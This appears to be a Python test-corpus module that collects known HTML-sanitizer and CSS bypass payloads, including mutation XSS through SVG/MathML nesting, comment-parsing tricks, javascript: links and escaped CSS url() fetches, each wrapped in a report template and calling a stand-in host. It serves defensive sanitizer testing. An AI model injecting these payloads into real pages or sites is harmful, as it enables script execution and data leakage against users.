"""Known ways past HTML sanitizers and active-content checks, as report template content.

Each entry is (id, markup); ``JS`` in the markup is replaced by a script that records that it
ran and asks for an outside URL, ``OUT`` by an outside URL. Sources: the issue's penetration
test; DOMPurify's and Bleach's bypass advisories (mutation XSS through MathML/SVG namespace
confusion, comment and raw-text parsing differences); PortSwigger's XSS and CSS cheat
sheets (CSS escapes, image-set, attributes that fetch).
"""

from __future__ import annotations

OUTSIDE = "http://outside.example"
SCRIPT = "window.ran=(window.ran||0)+1;fetch('" + OUTSIDE + "/ran')"

BODY = [
    # The finding: lxml hid the <img> in SVG style text; browsers make it an HTML element.
    ("svg-style-img", "<svg><style><img src=x onerror=JS></style></svg>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=JS>"),
    (
        "math-mglyph-comment",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=JS&gt;">',
    ),
    ("svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=JS>">'),
    (
        "form-math-nesting",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    ),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>"),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>',
    ),
    ("math-href", '<math href="javascript:JS"><mi>x</mi></math>'),
    ("template-content", "<template><img src=x onerror=JS></template>"),
    ("select-content", "<select><img src=x onerror=JS></select>"),
    ("abrupt-comment", "<!--><img src=x onerror=JS>-->"),
    ("bang-comment", "<!-- --!><img src=x onerror=JS> -->"),
    ("xmp-title", '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>'),
    ("textarea-title", '<textarea><p title="</textarea><img src=x onerror=JS>">'),
    ("svg-script", "<svg><script>JS</script></svg>"),
    ("svg-onload", "<svg onload=JS></svg>"),
    ("svg-xlink-js", '<svg><a xlink:href="javascript:JS"><text y="9">x</text></a></svg>'),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:JS"/>'
        '<text y="9">x</text></a></svg>',
    ),
    ("svg-set", '<svg><set attributeName="onmouseover" to="JS"/></svg>'),
    ("svg-image", '<svg><image href="OUT/svg-image.png"/></svg>'),
    ("svg-use", '<svg><use href="OUT/sprite.svg#x"/></svg>'),
    ("svg-fill-url", '<svg><rect width="9" height="9" fill="url(OUT/paint.svg#p)"/></svg>'),
    ("script", "<script>JS</script>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>'),
    ("object", '<object data="OUT/object"></object>'),
    ("embed", '<embed src="OUT/embed">'),
    ("base", '<base href="OUT/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="OUT/s.css">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=OUT/refresh">'),
    ("meta-csp", '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
    ("details-ontoggle", "<details open ontoggle=JS><summary>x</summary></details>"),
    ("img-onerror-data", '<img src="data:image/png;base64,AAAA" onerror="JS">'),
    ("img-remote", '<img src="OUT/pixel.png">'),
    ("img-srcset", '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="OUT/srcset.png 1x">'),
    ("table-background", '<table background="OUT/background.png"><tr><td>x</td></tr></table>'),
    ("a-ping", '<a href="#x" ping="OUT/ping">x</a>'),
    ("a-javascript", '<a href="javascript:JS">x</a>'),
    ("a-entity-javascript", '<a href="&#x6A;ava&#x09;script&colon;JS">x</a>'),
    ("a-remote", '<a href="OUT/page">x</a>'),
    ("video-poster", '<video poster="OUT/poster.png"></video>'),
    ("input-image", '<input type="image" src="OUT/input.png">'),
    ("blockquote-cite", '<blockquote cite="OUT/cite">x</blockquote>'),
    ("style-attr-url", '<div style="background-image: url(OUT/style-attr.png)">x</div>'),
    ("style-attr-escape", '<div style="background:u\\rl(OUT/escaped.png)">x</div>'),
    ("style-attr-entity", '<div style="&#98;ackground:url(OUT/entity.png)">x</div>'),
    ("style-attr-image-set", "<div style=\"background:image-set('OUT/set.png' 1x)\">x</div>"),
]
STYLE = [
    ("css-import-escape", '@\\69mport "OUT/import.css";'),
    ("css-import", "@import url(OUT/import2.css);"),
    ("css-url-escape", "p { background: \\75rl(OUT/url-escape.png) }"),
    ("css-url-quoted", 'p { background: url( "OUT/url-quoted.png" ) }'),
    ("css-image-set", 'p { background-image: image-set("OUT/image-set.png" 1x) }'),
    ("css-webkit-image-set", "p { background-image: -webkit-image-set(url(OUT/w.png) 1x) }"),
    ("css-font-face", "@font-face { font-family: x; src: url(OUT/font.woff) }"),
    ("css-custom-property", "p { --x: url(OUT/custom.png); background: var(--x) }"),
    ("css-nesting", "p { & span { background: url(OUT/nested.png) } }"),
    ("css-cursor", "p { cursor: url(OUT/cursor.png), auto }"),
    ("css-list-style-image", "li { list-style-image: url(OUT/bullet.png) }"),
    ("css-namespace", "@namespace url(OUT/ns);"),
    ("css-behavior", "p { behavior: url(OUT/x.htc) }"),
    ("css-expression", "p { width: expression(JS) }"),
    ("css-svg-data", "p { background: url(data:image/svg+xml;base64,PHN2Zy8+) }"),
    ("css-content-url", 'p::before { content: url("OUT/content.png") }'),
    ("css-border-image", "p { border-image: url(OUT/border.png) 30 }"),
    ("css-breakout", "</style><img src=x onerror=JS><style>"),
    ("css-comment-breakout", "/* </style><img src=x onerror=JS> */"),
]


def fill(markup: str) -> str:
    return markup.replace("JS", SCRIPT).replace("OUT", OUTSIDE)


def in_body(markup: str) -> str:
    return '{% extends "brief.html" %}{% block intro %}' + fill(markup) + "{% endblock %}"


def in_style(css: str) -> str:
    return '{% extends "brief.html" %}{% block extra_style %}' + fill(css) + "{% endblock %}"


CORPUS = [(key, in_body(m)) for key, m in BODY] + [(key, in_style(c)) for key, c in STYLE]
